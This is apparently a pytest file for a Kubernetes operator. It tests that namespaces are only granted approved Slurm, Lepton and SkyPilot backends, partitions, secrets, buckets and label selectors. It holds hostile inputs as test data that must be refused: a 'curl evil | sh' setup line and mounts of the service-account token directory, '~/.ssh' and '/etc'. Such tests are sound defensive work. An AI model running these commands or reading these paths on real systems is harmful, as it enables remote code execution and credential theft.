"""Backends granted per namespace, and the allow-lists of what a tenant may choose there (#13.1)."""

from __future__ import annotations

import re
from typing import Any

import pytest

from kuberun.resource import LeptonExecutor, SkypilotExecutor, SlurmExecutor
from kuberun_operator import grants
from kuberun_operator.backend_config import BackendConfig, LeptonWorkspace, SkypilotConfig, SlurmCluster

SLURM = SlurmCluster.model_validate({"name": "dgx", "host": "login", "partition": "batch", "account": "research",
                                     "allowedNamespaces": ["team-a", "lab-*"], "allowedPartitions": ["debug"],
                                     "allowedAccounts": ["shared"], "allowedQos": ["normal"]})


def slurm(**fields: Any) -> SlurmExecutor:
    return SlurmExecutor.model_validate({"cluster": "dgx", **fields})


ALLOWED = {
    "granted by name, defaults": ("team-a", {}),
    "granted by pattern": ("lab-vision", {}),
    "the admin's own defaults named explicitly": ("team-a", {"partition": "batch", "account": "research"}),
    "allow-listed choices": ("team-a", {"partition": "debug", "account": "shared", "qos": "normal"}),
}
REFUSED = {
    "namespace not granted": ("team-b", {}, "namespace 'team-b' may not use Slurm cluster 'dgx': it is not in the backend's allowedNamespaces"),
    "pattern does not match a prefix only": ("lab", {}, "not in the backend's allowedNamespaces"),
    "partition": ("team-a", {"partition": "gpu-prio"}, "partition 'gpu-prio' is not allowed here (allowed: batch, debug)"),
    "account": ("team-a", {"account": "finance"}, "account 'finance' is not allowed here (allowed: research, shared)"),
    "qos": ("team-a", {"qos": "high"}, "qos 'high' is not allowed here (allowed: normal)"),
    "setup lines": ("team-a", {"setup": ["curl evil | sh"]}, "setup lines are not allowed on this cluster"),
}


@pytest.mark.parametrize(("namespace", "fields"), ALLOWED.values(), ids=ALLOWED.keys())
def test_slurm_allows_granted_namespaces_and_listed_choices(namespace, fields):
    grants.check_slurm(SLURM, slurm(**fields), namespace)


@pytest.mark.parametrize(("namespace", "fields", "message"), REFUSED.values(), ids=REFUSED.keys())
def test_slurm_refuses_with_backend_not_allowed_naming_namespace_and_backend(namespace, fields, message):
    with pytest.raises(grants.BackendNotAllowed) as caught:
        grants.check_slurm(SLURM, slurm(**fields), namespace)
    assert caught.value.reason == "BackendNotAllowed" and caught.value.permanent
    assert message in caught.value.message
    assert f"namespace {namespace!r}" in caught.value.message and "Slurm cluster 'dgx'" in caught.value.message


def test_the_default_is_deny_for_every_backend_and_star_is_the_explicit_grant():
    config = BackendConfig.model_validate({"slurm": {"clusters": [{"name": "c", "host": "h"}]},
                                           "lepton": {"workspaces": [{"name": "w", "url": "http://l.invalid"}]},
                                           "skypilot": {"endpoint": "http://s.invalid"}})
    lepton = LeptonExecutor(resource_shape="cpu.small")
    checks = [lambda: grants.check_slurm(config.slurm.clusters[0], slurm(), "default"),
              lambda: grants.check_lepton(config.lepton.workspaces[0], lepton, "default"),
              lambda: grants.check_skypilot(config.skypilot, SkypilotExecutor(), "default")]  # type: ignore[arg-type]
    for check in checks:
        with pytest.raises(grants.BackendNotAllowed):
            check()
    cluster = config.slurm.clusters[0].model_copy(update={"allowed_namespaces": ["*"]})
    grants.check_slurm(cluster, slurm(), "anything")


def test_lepton_secrets_and_node_groups_are_allow_listed():
    ws = LeptonWorkspace.model_validate({"name": "prod", "url": "http://l.invalid", "allowedNamespaces": ["a"],
                                         "allowedSecrets": ["hf-*"], "allowedNodeGroups": ["ng-a"]})
    ok = LeptonExecutor(resource_shape="gpu", node_group="ng-a", secret_env=[{"name": "T", "secret": "hf-team-a"}])
    grants.check_lepton(ws, ok, "a")
    for bad, words in ((ok.model_copy(update={"node_group": "ng-b"}), "node group 'ng-b'"),
                       (LeptonExecutor(resource_shape="gpu", secret_env=[{"name": "K", "secret": "prod-db"}]),
                        "secret 'prod-db'")):
        with pytest.raises(grants.BackendNotAllowed, match=words):
            grants.check_lepton(ws, bad, "a")


def test_skypilot_cluster_mode_targets_only_listed_clusters():
    config = SkypilotConfig.model_validate({"endpoint": "http://s.invalid", "allowedNamespaces": ["a"],
                                            "allowedClusters": ["team-a-*"]})
    grants.check_skypilot(config, SkypilotExecutor(mode="cluster", cluster_name="team-a-dev"), "a")
    grants.check_skypilot(config, SkypilotExecutor(), "a")  # managed jobs name no cluster
    with pytest.raises(grants.BackendNotAllowed, match="cluster 'team-b-dev' is not allowed"):
        grants.check_skypilot(config, SkypilotExecutor(mode="cluster", cluster_name="team-b-dev"), "a")


def test_lepton_reservations_and_image_pull_secrets_are_allow_listed():
    ws = LeptonWorkspace.model_validate({"name": "prod", "url": "http://l.invalid", "allowedNamespaces": ["a"],
                                         "allowedReservations": ["res-a-*"], "allowedImagePullSecrets": ["ngc-a"]})
    ok = LeptonExecutor(resource_shape="gpu", node_reservation="res-a-1", image_pull_secrets=["ngc-a"])
    grants.check_lepton(ws, ok, "a")
    for bad, words in ((ok.model_copy(update={"node_reservation": "res-b-1"}), "node reservation 'res-b-1'"),
                       (ok.model_copy(update={"image_pull_secrets": ["ngc-a", "ngc-b"]}), "image-pull secret 'ngc-b'")):
        with pytest.raises(grants.BackendNotAllowed, match=words):
            grants.check_lepton(ws, bad, "a")


def test_skypilot_mounts_only_buckets_the_admin_listed():
    """The SkyPilot server mounts buckets with its own cloud credentials: a tenant names only granted ones."""
    config = SkypilotConfig.model_validate({"endpoint": "http://s.invalid", "allowedNamespaces": ["a"],
                                            "allowedBuckets": ["s3://team-a-*"]})
    grants.check_skypilot(config, SkypilotExecutor(file_mounts={"/data": "s3://team-a-data/shards"},
                                                   storage_mounts={"/ckpt": {"source": "s3://team-a-ckpt"}}), "a")
    for executor in (SkypilotExecutor(file_mounts={"/data": "s3://team-b-data"}),
                     SkypilotExecutor(storage_mounts={"/ckpt": {"source": "gs://team-a-ckpt", "mode": "MOUNT"}})):
        with pytest.raises(grants.BackendNotAllowed, match=r"bucket '.*' is not allowed"):
            grants.check_skypilot(config, executor, "a")
    no_buckets = config.model_copy(update={"allowed_buckets": []})
    with pytest.raises(grants.BackendNotAllowed, match="bucket 's3://team-a-data' is not allowed"):
        grants.check_skypilot(no_buckets, SkypilotExecutor(file_mounts={"/d": "s3://team-a-data"}), "a")  # default: none


@pytest.mark.parametrize("fields, words", [
    ({"file_mounts": {"/keys": "/var/run/secrets/kubernetes.io/serviceaccount"}}, "not a bucket URL"),
    ({"file_mounts": {"/keys": "~/.ssh"}}, "not a bucket URL"),
    ({"storage_mounts": {"/m": {"source": "file:///etc"}}}, "not a bucket URL"),
    ({"file_mounts": {"relative": "s3://b"}}, "must be absolute"),
    ({"ports": ["22-21"]}, "is not a port"),
    ({"idle_minutes_to_autostop": 10}, "need mode='cluster'"),
])
def test_a_skypilot_mount_of_the_operator_s_own_files_is_refused_at_the_model(fields, words):
    """A local source would be read from the operator's disk by the SkyPilot server: refused in the SDK
    and when the operator parses a spec written with kubectl (the same model)."""
    from pydantic import ValidationError

    from kuberun.errors import InvalidExecutorError
    from kuberun.resource import ExperimentResource

    with pytest.raises(InvalidExecutorError, match=words):
        SkypilotExecutor(**fields)
    resource = {"apiVersion": "kuberun.dev/v1alpha1", "kind": "Experiment", "metadata": {"name": "x", "namespace": "a"},
                "spec": {"title": "x", "tasks": [{"name": "t", "script": {"command": ["true"]},
                                                  "executor": {"skypilot": {_camel(k): v for k, v in fields.items()}}}]}}
    with pytest.raises(ValidationError, match=words):
        ExperimentResource.parse(resource)


def _camel(name: str) -> str:
    head, *rest = name.split("_")
    return head + "".join(w.title() for w in rest)


# -- namespaces granted by label selector (allowedNamespaceSelector) ----------------------------------------

SELECTOR = {"matchLabels": {"kuberun.dev/gpu": "granted"},
            "matchExpressions": [{"key": "tier", "operator": "NotIn", "values": ["sandbox"]}]}


def by_label() -> BackendConfig:
    return BackendConfig.model_validate({
        "slurm": {"clusters": [{"name": "c", "host": "h", "allowedNamespaces": ["team-a"], "allowedNamespaceSelector": SELECTOR}]},
        "lepton": {"workspaces": [{"name": "w", "url": "http://l.invalid", "allowedNamespaceSelector": SELECTOR}]},
        "skypilot": {"endpoint": "http://s.invalid", "allowedNamespaceSelector": SELECTOR}})


def every_check(config: BackendConfig, namespace: str, labels: Any) -> list[Any]:
    assert config.skypilot is not None
    return [lambda: grants.check_slurm(config.slurm.clusters[0], slurm(cluster="c"), namespace, labels),
            lambda: grants.check_lepton(config.lepton.workspaces[0], LeptonExecutor(resource_shape="cpu.small"), namespace, labels),
            lambda: grants.check_skypilot(config.skypilot, SkypilotExecutor(), namespace, labels)]


LABELLED = {
    "matching labels": ({"kuberun.dev/gpu": "granted", "tier": "prod"}, None),
    "label missing": ({"tier": "prod"}, re.escape("its labels do not match allowedNamespaceSelector "
                                                  "(kuberun.dev/gpu=granted, tier NotIn (sandbox))")),
    "excluded by an expression": ({"kuberun.dev/gpu": "granted", "tier": "sandbox"}, "do not match allowedNamespaceSelector"),
    "labels unreadable": (None, "this operator cannot read Namespace labels"),
}


@pytest.mark.parametrize(("labels", "refusal"), LABELLED.values(), ids=LABELLED.keys())
def test_a_selector_grants_every_backend_to_namespaces_whose_labels_match(labels, refusal):
    for check in every_check(by_label(), "team-z", labels):
        if refusal is None:
            check()
            continue
        with pytest.raises(grants.BackendNotAllowed, match=refusal) as caught:
            check()
        assert "namespace 'team-z'" in caught.value.message and caught.value.permanent


def test_a_name_in_allowed_namespaces_needs_no_labels_and_reads_none():
    config = by_label()
    grants.check_slurm(config.slurm.clusters[0], slurm(cluster="c"), "team-a", labels={})
    reads: list[str] = []

    async def read(namespace: str) -> dict[str, str]:
        reads.append(namespace)
        return {"kuberun.dev/gpu": "granted"}

    import asyncio

    cluster, workspace = config.slurm.clusters[0], config.lepton.workspaces[0]
    assert asyncio.run(grants.namespace_labels(cluster, "team-a", read)) is None  # granted by name: no API call
    assert asyncio.run(grants.namespace_labels(workspace, "team-z", read)) == {"kuberun.dev/gpu": "granted"}
    assert asyncio.run(grants.namespace_labels(SLURM, "team-z", read)) is None  # no selector: nothing to read
    assert reads == ["team-z"]


def test_an_empty_selector_is_refused_rather_than_granting_every_namespace():
    with pytest.raises(ValueError, match=r"empty allowedNamespaceSelector would grant every namespace"):
        SlurmCluster.model_validate({"name": "c", "allowedNamespaceSelector": {}})
    with pytest.raises(ValueError, match="needs values"):
        LeptonWorkspace.model_validate({"name": "w", "url": "http://x", "allowedNamespaceSelector": {
            "matchExpressions": [{"key": "k", "operator": "In"}]}})
    assert by_label().grants_by_label and not BackendConfig.model_validate({"slurm": {"clusters": [{"name": "c"}]}}).grants_by_label
